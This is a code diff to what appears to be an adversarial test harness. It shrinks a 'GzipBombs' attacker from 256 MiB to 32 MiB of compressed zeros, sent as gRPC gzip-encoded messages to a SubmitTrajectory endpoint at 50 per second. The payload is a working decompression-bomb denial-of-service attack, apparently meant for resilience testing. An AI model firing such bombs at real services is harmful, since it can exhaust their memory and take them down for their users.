@@ -145,10 +145,11 @@ class Shapes(_Submitter):
 
 
 class GzipBombs(Attacker):
-    """Messages that gRPC itself is to decompress, to 256 MiB of zeros; 50 a second, on a new connection each."""
+    """Messages that gRPC itself is to decompress, to 32 MiB of zeros; 50 a second, on a new connection each."""
 
     async def run(self) -> None:
-        content = gzip.compress(bytes(2**28), 9)
+        # Compressed it fits into the window that a connection has at first.
+        content = gzip.compress(bytes(2**25), 9)
         message = b"\1" + len(content).to_bytes(4, "big") + content
         metadata = (*self.target.bearer, ("grpc-encoding", "gzip"))
         attack = PREFACE + begin_call("SubmitTrajectory", 1, metadata)
